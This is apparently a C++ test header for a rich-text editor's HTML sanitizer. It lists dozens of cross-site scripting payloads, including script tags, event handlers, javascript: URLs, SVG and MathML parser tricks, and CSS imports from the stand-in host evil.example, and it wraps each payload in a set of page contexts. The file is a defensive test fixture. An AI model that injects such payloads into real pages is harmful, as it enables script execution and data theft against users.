// SPDX-FileCopyrightText: 2026 Tuiwen Studio contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QByteArray>
#include <QVector>

namespace tuiwen::test {

/// Markup that would run, load, navigate or stay behind in a page that trusts what it is given. Every
/// one calls pwn() or asks evil.example for something when it gets through.
inline const char *const payloads[]{
    "<script>pwn()</script>",
    "<script src=http://evil.example/a.js></script>",
    "<script/x>pwn()</script x>",
    "<scr\0ipt>pwn()</scr\0ipt>",
    "<img src=x onerror=pwn()>",
    "<img/src=x/onerror=pwn()>",
    "<img src=http://evil.example/i.png>",
    "<img src=x srcset='http://evil.example/i.png 2x, javascript:pwn() 3x'>",
    "<picture><source srcset=http://evil.example/s.png><img src=y></picture>",
    "<img src='javascript:pwn()'>",
    "<img src='data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg=='>",
    "<img src='data:image/svg+xml,<svg onload=pwn()>'>",
    "<img src='file:///etc/passwd'>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><use href='http://evil.example/u.svg#x'/></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><image href='http://evil.example/i.png'/></svg>",
    "<svg><animate attributeName=href values=javascript:pwn() /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=pwn() /></svg>",
    "<svg><foreignObject><iframe src=javascript:pwn()></iframe></foreignObject></svg>",
    "<svg><style>@import 'http://evil.example/s.css';</style></svg>",
    "<svg><feImage href='http://evil.example/f.png'/></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=pwn()></annotation-xml></math>",
    "<a href=javascript:pwn()>x</a>",
    "<a href='&#x6A;avascript&colon;pwn()'>x</a>",
    "<a href='\x01java\nscript:pwn()'>x</a>",
    "<a href='vbscript:pwn()'>x</a>",
    "<a href='data:text/html,<script>pwn()</script>'>x</a>",
    "<a href='http://evil.example/' ping='http://evil.example/p' target=_blank>x</a>",
    "<iframe src=http://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data=http://evil.example/o></object>",
    "<embed src=javascript:pwn()>",
    "<video src=http://evil.example/v onerror=pwn() autoplay></video>",
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preload as=image href=http://evil.example/p.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/><img src=relative.png>",
    "<form action=http://evil.example/><input name=a><button formaction=javascript:pwn()>x</button></form>",
    "<style>@import url(http://evil.example/s.css);p{background:url(http://evil.example/b)}</style>",
    "<p style='background:url(http://evil.example/b.png)'>x</p>",
    "<p style='background:u\\72l(http://evil.example/b.png)'>x</p>",
    "<p style='width:expression(pwn());behavior:url(http://evil.example/h.htc)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<p onmouseover=pwn() onfocus=pwn() tabindex=0 autofocus>x</p>",
    "<details open ontoggle=pwn()>x</details>",
    "<template><img src=x onerror=pwn()></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>",
    "<xmp><p title='</xmp><img src=x onerror=pwn()>'></xmp>",
    "<!--><img src=x onerror=pwn()>-->",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<mpvoice onclick=pwn() src=javascript:pwn() data-x='javascript:pwn()'></mpvoice>",
    "<mp-common-profile data-headimg='javascript:pwn()' onclick=pwn()></mp-common-profile>",
    "<section style='background-color:#fee' onclick=pwn()><img src=http://evil.example/x.png>x<script>pwn()</script></section>",
    "<p data-tuiwen-slice='{\"content\":[{\"type\":\"styled\",\"attrs\":{\"html\":\"<img src=x onerror=pwn()>\"}}]}'>x</p>",
    "<p data-pm-slice='1 1 []'>x<img src=x onerror=pwn()></p>",
    "<table background=http://evil.example/t.png><tr><td background=http://evil.example/c.png>x</table>",
};

/// Places that such markup may stand in; %% is where it goes.
inline const char *const contexts[]{
    "%%",
    "<p>a%%b</p>",
    "<div style='color:red'><span>%%</span></div>",
    "<ul><li>a%%</li></ul>",
    "<table><tr><td>%%</td></tr></table>",
    "<blockquote>%%</blockquote>",
    "<h2>%%</h2>",
    "<a href='https://fine.example/'>%%</a>",
    "<section data-tools='135\xe7\xbc\x96\xe8\xbe\x91\xe5\x99\xa8'><section style='background-color:#eef'>k%%</section><p>plain plain plain</p></section>",
    "<div id=\"js_content\"><section style='border:1px solid red'><p>x</p>%%</section><p>text</p></div>",
    "<figure>%%<figcaption>c</figcaption></figure>",
};

/// Every payload in every context.
inline QVector<QByteArray> hostileMarkup()
{
    QVector<QByteArray> all;
    for (const char *context : contexts) {
        for (const char *payload : payloads) {
            all.append(QByteArray(context).replace("%%", payload));
        }
    }
    return all;
}

} // namespace tuiwen::test
